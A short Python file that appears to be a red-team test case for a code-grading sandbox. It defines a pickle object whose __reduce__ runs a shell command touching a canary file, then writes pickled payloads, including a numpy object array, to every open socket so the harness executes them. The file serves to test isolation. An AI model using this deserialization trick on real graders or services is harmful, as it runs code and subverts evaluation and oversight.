# attack: answers with a pickle, and with an array of pickled objects
# points: double=0 total=4
# %% double
import io, os, pickle, stat
class Run:
    def __reduce__(self): return os.system, ("touch /tmp/breach.canary",)
def double(x):
    file = io.BytesIO()
    np.savez(file, index=np.array([Run()], dtype=object))
    for data in (pickle.dumps(Run()), file.getvalue()):
        for number in range(3, 64):
            try:
                if stat.S_ISSOCK(os.fstat(number).st_mode):
                    os.write(number, len(data).to_bytes(8) + data)
            except OSError:
                pass
    return x
